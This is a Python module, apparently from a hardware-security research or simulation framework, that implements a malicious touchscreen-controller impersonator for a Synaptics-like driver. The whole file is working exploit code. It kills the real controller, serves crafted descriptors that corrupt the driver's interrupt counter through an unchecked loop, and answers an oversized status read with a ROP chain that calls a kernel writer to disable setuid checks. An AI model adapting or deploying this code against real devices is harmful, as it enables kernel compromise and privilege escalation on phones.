"""Boot-time exploit persona for the Synaptics-like driver.

The persona cuts power to the genuine controller and answers the bus
itself. Everything at or below the benign address ceiling is served from
a shadow copy of the real controller, so those bytes are identical to a
genuine part. Descriptor slots above the ceiling return a crafted set of
descriptors whose interrupt counts walk the driver's source counter to
``8 * 210`` through the unchecked enable-map loop. Once the phone has
finished booting the persona raises an interrupt and answers the now
oversized status read with a stack image carrying the ROP chain.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field

from ..bus import Interposer, Reply, Source
from ..controller import (
    PDT_ENTRY_SIZE, STATUS_REG, ControllerProfile, FunctionDescriptor,
    SynapticsController, all_slot_addresses,
)
from ..driver.kernel import PayloadId, PatchSite, default_patch_sites
from ..driver.rop import GADGET_IDS, RESUME, WRITE_WORD, CatalogIncomplete, GadgetCatalog
from ..driver.sandbox import (
    FRAME_SIZE, HEAP_LAYOUT, IRQ_MAP_CAPACITY, SAVED_FP_OFFSET, SAVED_LR_OFFSET,
)

BENIGN_CEILING = 0x500
BOOT_WAIT_US = 20_000_000
PAYLOAD_GAP_US = 50_000
TARGET_READ_LEN = FRAME_SIZE
MAX_IRQ_PER_DESCRIPTOR = 7
FILLER = 0x41
CRAFTED_ID_BASE = 0xA0
HEAP_BYTES = sum(cap for _, cap in HEAP_LAYOUT)


def compute_crafted_irq_total(target_read_len: int) -> int:
    """Source count that makes the driver read ``target_read_len`` status bytes."""
    if target_read_len < 1:
        raise ValueError("target_read_len must be >= 1")
    return target_read_len * 8


# -- crafted descriptors ------------------------------------------------------

def next_irq_count(count: int, n: int) -> int:
    """Counter after the driver registers ``n`` more sources starting at ``count``.

    Mirrors the vulnerable loop: bits ``count .. count+n-1`` are OR-ed into
    the enable map, bit positions 32..63 land in the counter's own bytes,
    and the counter is then re-read and incremented by ``n``.
    """
    raw = bytearray(count.to_bytes(4, "little"))
    for ii in range(n):
        bit = count + ii
        if IRQ_MAP_CAPACITY * 8 <= bit < (IRQ_MAP_CAPACITY + 4) * 8:
            raw[bit // 8 - IRQ_MAP_CAPACITY] |= 1 << (bit % 8)
    return (int.from_bytes(raw, "little") + n) & 0xFFFFFFFF


def plan_irq_counts(start: int, target: int, max_descriptors: int) -> list[int]:
    """Shortest list of per-descriptor counts driving the counter to ``target``.

    Breadth-first over counter values; the counter alone determines every
    later step, so visiting each value once is enough. Bits past the heap
    object are never touched.
    """
    if start == target:
        return []
    parent: dict[int, tuple[int, int]] = {start: (start, 0)}
    frontier = [start]
    for _ in range(max_descriptors):
        nxt = []
        for c in frontier:
            for n in range(1, MAX_IRQ_PER_DESCRIPTOR + 1):
                if c + n > HEAP_BYTES * 8 - IRQ_MAP_CAPACITY * 8:
                    continue
                c2 = next_irq_count(c, n)
                if c2 in parent:
                    continue
                parent[c2] = (c, n)
                if c2 == target:
                    path = []
                    while c2 != start:
                        c2, n2 = parent[c2]
                        path.append(n2)
                    return path[::-1]
                nxt.append(c2)
        frontier = nxt
    raise ValueError(f"counter {target} unreachable from {start} within {max_descriptors} descriptors")


@dataclass(frozen=True)
class CraftedDescriptorSet:
    descriptors: tuple[FunctionDescriptor, ...]
    slots: tuple[int, ...]
    initial_count: int
    final_count: int

    @property
    def claimed_sources(self) -> int:
        return sum(d.irq_source_count for d in self.descriptors)

    def serialized(self) -> bytes:
        return b"".join(d.to_bytes() for d in self.descriptors)


def craft_descriptor_set(profile: ControllerProfile | None = None,
                         target_read_len: int = TARGET_READ_LEN) -> CraftedDescriptorSet:
    profile = profile or ControllerProfile.load("synaptics_like")
    initial = sum(d.irq_source_count for _, d in profile.descriptors)
    slots = [a for a in all_slot_addresses() if a > BENIGN_CEILING]
    target = compute_crafted_irq_total(target_read_len)
    counts = plan_irq_counts(initial, target, len(slots))
    descs = tuple(FunctionDescriptor(CRAFTED_ID_BASE + i, 0xFF, 0xFF, 0xFF, 0xFF, n)
                  for i, n in enumerate(counts))
    return CraftedDescriptorSet(descs, tuple(slots[:len(descs)]), initial, target)


# -- overflow payload -----------------------------------------------------------

@dataclass(frozen=True)
class FrameLayout:
    size: int = FRAME_SIZE
    saved_fp: int = SAVED_FP_OFFSET
    saved_lr: int = SAVED_LR_OFFSET


@dataclass(frozen=True)
class OverflowPayload:
    data: bytes
    payload_id: PayloadId | None
    rop_slots: dict[int, int]
    target: int
    addr_arg: int
    word_arg: int

    def __post_init__(self):
        if len(self.data) != FRAME_SIZE:
            raise ValueError(f"payload must be {FRAME_SIZE} bytes")


def _put(buf: bytearray, offset: int, value: int) -> None:
    buf[offset:offset + 8] = value.to_bytes(8, "little")


def build_overflow_payload(payload_id: PayloadId | str, catalog: GadgetCatalog | None = None,
                           layout: FrameLayout = FrameLayout(),
                           sites: dict[PayloadId, PatchSite] | None = None) -> OverflowPayload:
    """Stack image whose return path calls the kernel word writer once.

    Layout after the saved return address (offsets from the frame start,
    ``sp`` is the stack pointer after the handler's epilogue)::

        lr      gadget 1   loads x19/x20 from sp+16, x29/x30 from sp, sp += 32
        sp+8    gadget 2   x2 := x19 (the writer), loads args, sp += 48
        sp+16   writer address
        sp+40   gadget 3   calls x2(x19, x20), sp += 48
        sp+48   target address, sp+56 word
        sp+88   genuine handler return, so the kernel carries on
    """
    catalog = catalog or GadgetCatalog.load()
    pid = PayloadId(payload_id)
    for gid in GADGET_IDS:
        catalog.address_of(gid)
    target = catalog.symbol(WRITE_WORD)
    resume = catalog.symbol(RESUME)
    site = (sites or default_patch_sites()).get(pid)
    if site is None:
        raise CatalogIncomplete(f"no patch site for {pid.value}")
    buf = bytearray([FILLER]) * layout.size
    buf[0:4] = bytes(4)  # status bits: nothing for the dispatcher to do
    sp = layout.saved_lr + 8
    slots = {
        layout.saved_lr: catalog.address_of("load_x19_x20"),
        sp + 0x08: catalog.address_of("mov_x2_x19"),
        sp + 0x10: target,
        sp + 0x28: catalog.address_of("call_x2"),
        sp + 0x30: site.address,
        sp + 0x38: site.word,
        sp + 0x58: resume,
    }
    for off, value in slots.items():
        _put(buf, off, value)
    return OverflowPayload(bytes(buf), pid, slots, target, site.address, site.word)


def resume_frame(status: bytes, catalog: GadgetCatalog | None = None,
                 layout: FrameLayout = FrameLayout()) -> bytes:
    """A frame-sized status answer that leaves the return path intact."""
    catalog = catalog or GadgetCatalog.load()
    buf = bytearray(layout.size)
    buf[:len(status)] = status
    _put(buf, layout.saved_lr, catalog.symbol(RESUME))
    return bytes(buf)


# -- persona --------------------------------------------------------------------

@dataclass
class ExploitState:
    shadow: SynapticsController
    crafted: CraftedDescriptorSet
    payloads: deque = field(default_factory=deque)
    cursor: int = 0
    triggered: bool = False
    delivered: list = field(default_factory=list)
    served_slots: list = field(default_factory=list)
    catalog: GadgetCatalog = field(default_factory=GadgetCatalog.load)


def exploit_respond(reg_addr: int, read_len: int, state: ExploitState) -> bytes:
    """Bytes the persona returns for a read while it owns the bus."""
    if reg_addr > BENIGN_CEILING and read_len == PDT_ENTRY_SIZE:
        if state.cursor < len(state.crafted.descriptors):
            d = state.crafted.descriptors[state.cursor]
            state.cursor += 1
            state.served_slots.append(reg_addr)
            return d.to_bytes()
        return bytes(PDT_ENTRY_SIZE)
    if reg_addr == STATUS_REG and read_len > 4:
        if state.triggered and state.payloads:
            payload = state.payloads.popleft()
            state.delivered.append(payload)
            return payload.data[:read_len].ljust(read_len, b"\0")
        status = state.shadow.read(STATUS_REG, 4)
        return resume_frame(status, state.catalog)[:read_len].ljust(read_len, b"\0")
    if reg_addr > BENIGN_CEILING:
        return bytes(read_len)
    return state.shadow.read(reg_addr, read_len)


class ExploitPersona(Interposer):
    """Impersonates the controller from power-on and delivers the overflow."""

    def __init__(self, payload_ids=(PayloadId.DISABLE_SETUID_CHECKS,),
                 profile: ControllerProfile | None = None, catalog: GadgetCatalog | None = None,
                 boot_wait_us: int = BOOT_WAIT_US):
        profile = profile or ControllerProfile.load("synaptics_like")
        catalog = catalog or GadgetCatalog.load()
        self.state = ExploitState(shadow=SynapticsController(profile),
                                  crafted=craft_descriptor_set(profile), catalog=catalog)
        self.payloads = [build_overflow_payload(p, catalog) for p in payload_ids]
        self.boot_wait_us = boot_wait_us
        self.armed = False
        self.armed_at: int | None = None
        self.line = False
        self.events: list[tuple[int, str, dict]] = []
        self.bus = None

    def attach(self, bus) -> None:
        self.bus = bus

    def _note(self, kind: str, **info) -> None:
        self.events.append((self.bus.now, kind, info))

    def arm(self) -> None:
        """Kill the genuine controller and start the boot-complete timer."""
        self.armed = True
        self.armed_at = self.bus.now
        self.state.cursor = 0
        self.state.triggered = False
        self.state.payloads = deque(self.payloads)
        slave = self.bus.slave
        if slave is not None and getattr(slave, "set_power", None) is not None:
            self.bus.power(False, Source.INTERPOSER)
            slave.set_power(False)
        self._note("armed")
        self.bus.sched.call_later(self.boot_wait_us, self._fire)

    def _fire(self) -> None:
        if not self.armed or not self.state.payloads:
            return
        self.state.triggered = True
        self._note("trigger", remaining=len(self.state.payloads))
        self._set_line(True)

    def _set_line(self, asserted: bool) -> None:
        if asserted == self.line:
            return
        self.line = asserted
        hop = self.bus.interposers.index(self)
        self.bus.set_irq(asserted, Source.INTERPOSER, from_hop=hop)

    def read(self, reg_addr, read_len, forward):
        if not self.armed:
            return forward(reg_addr, read_len)
        before = len(self.state.delivered)
        data = exploit_respond(reg_addr, read_len, self.state)
        if reg_addr == STATUS_REG:
            self._set_line(False)
            if len(self.state.delivered) > before:
                self._note("payload", payload=self.state.delivered[-1].payload_id.value)
                if self.state.payloads:
                    self.bus.sched.call_later(PAYLOAD_GAP_US, self._fire)
        return Reply(data, Source.INTERPOSER)

    def write(self, reg_addr, data, forward):
        if not self.armed:
            return forward(reg_addr, data)
        self.state.shadow.write(reg_addr, data)
        return Reply(b"", Source.INTERPOSER)

    def irq(self, asserted, source, forward):
        if not self.armed:
            forward(asserted, source)
